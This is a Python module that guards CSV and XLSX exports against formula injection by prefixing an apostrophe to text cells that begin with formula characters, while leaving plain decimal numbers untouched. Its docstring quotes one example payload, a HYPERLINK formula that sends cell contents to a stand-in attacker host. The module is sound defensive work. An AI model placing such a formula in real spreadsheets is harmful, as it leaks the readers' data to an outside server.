"""Spreadsheet cells that cannot be turned against their readers (CSV/formula injection).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (``=HYPERLINK("http://evil.example/?x="&A1,"click")`` sends the sheet away), and
a leading tab or carriage return can hide such a start. Following OWASP's advice, every text
cell we write to a CSV or XLSX file that could start a formula gets a leading apostrophe; the
same rule for both formats, so a cell reads the same in the CSV and in the workbook, and stays
inert when someone saves the workbook again as CSV. Numbers (including ``-12.50`` given as a
decimal string) are left as they are: a number is not a formula.
"""
from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number, as money is written in our files ("-12.50"); nothing else is spared.
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?\Z")


def needs_quoting(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula."""
    if _NUMBER.match(text):
        return False
    # Leading blanks do not make a formula safe: some readers trim them before looking.
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def safe_cell(value):
    """The value to write in a CSV or XLSX cell: text that could start a formula gets a leading ``'``.

    Anything that is not a string (numbers, booleans, dates, None) is returned unchanged."""
    if isinstance(value, str) and needs_quoting(value):
        return "'" + value
    return value


def safe_row(values) -> list:
    """`safe_cell` over a row."""
    return [safe_cell(v) for v in values]
